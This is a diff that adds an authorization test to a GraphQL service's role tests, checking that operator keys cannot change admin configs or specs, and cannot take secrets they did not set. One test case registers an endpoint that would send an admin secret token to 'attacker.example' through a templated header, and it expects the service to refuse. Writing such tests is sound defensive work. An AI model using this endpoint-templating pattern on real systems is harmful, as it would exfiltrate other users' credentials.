@@ -130,6 +130,25 @@ describe('roles', () => {
     expect(rows[0].created_by_key_id).toBe((await t.service.authenticate(keys.OPERATOR)).keyId);
   });
 
+  it("keeps OPERATOR keys off others' configs and payload specs, and off secrets they did not set", async () => {
+    const secretCfg = await gql(keys.ADMIN, 'mutation { setConfig(input: { name: "admin.secrets", entries: [{ key: "token", value: "t0p-s3cret", secret: true }] }) { id } }');
+    const plainCfg = await gql(keys.ADMIN, 'mutation { setConfig(input: { name: "admin.plain", entries: [{ key: "host", value: "example.com" }] }) { id } }');
+    const spec = await gql(keys.ADMIN, 'mutation { createPayloadSpec(input: { name: "admin.spec", jsonSchema: true }) { id } }');
+    const code = (r: { body: { errors?: { extensions?: any }[] } }) => r.body.errors?.[0]?.extensions?.code;
+    expect(code(await gql(keys.OPERATOR2, 'mutation { setConfig(input: { name: "admin.plain", entries: [] }) { id } }'))).toBe('FORBIDDEN');
+    expect(code(await gql(keys.OPERATOR2, 'mutation ($id: ID!) { updatePayloadSpec(input: { id: $id, jsonSchema: false }) { id } }', { id: spec.body.data.createPayloadSpec.id }))).toBe('FORBIDDEN');
+    // Pointing an endpoint at someone else's secrets would send them wherever its url says.
+    const steal = await gql(keys.OPERATOR2, 'mutation ($c: ID) { registerEndpoint(input: { name: "steal.it", kind: HTTP, url: "https://attacker.example/", headers: { x: "{{config.token}}" }, configId: $c }) { id } }', {
+      c: secretCfg.body.data.setConfig.id,
+    });
+    expect(code(steal)).toBe('FORBIDDEN');
+    const fine = await gql(keys.OPERATOR2, 'mutation ($c: ID) { registerEndpoint(input: { name: "uses.plain", kind: HTTP, url: "https://{{config.host}}/", configId: $c }) { id } }', {
+      c: plainCfg.body.data.setConfig.id,
+    });
+    expect(fine.body.errors).toBeUndefined();
+    expect(code(await gql(keys.OPERATOR2, 'mutation { registerEndpoint(input: { name: "fake.reaper", kind: HANDLER, handlerName: "jobgate.reaper" }) { id } }'))).toBe('VALIDATION_FAILED');
+  });
+
   it('lets an installation admin create a workspace, which gets its own admin key and reaper', async () => {
     const root = (await t.service.bootstrapKey('default', 'ADMIN', 'installation admin', true)).key;
     const res = await gql(root, 'mutation { createWorkspace(input: { slug: "acme", name: "Acme" }) { workspace { slug } adminKey { key } } }');
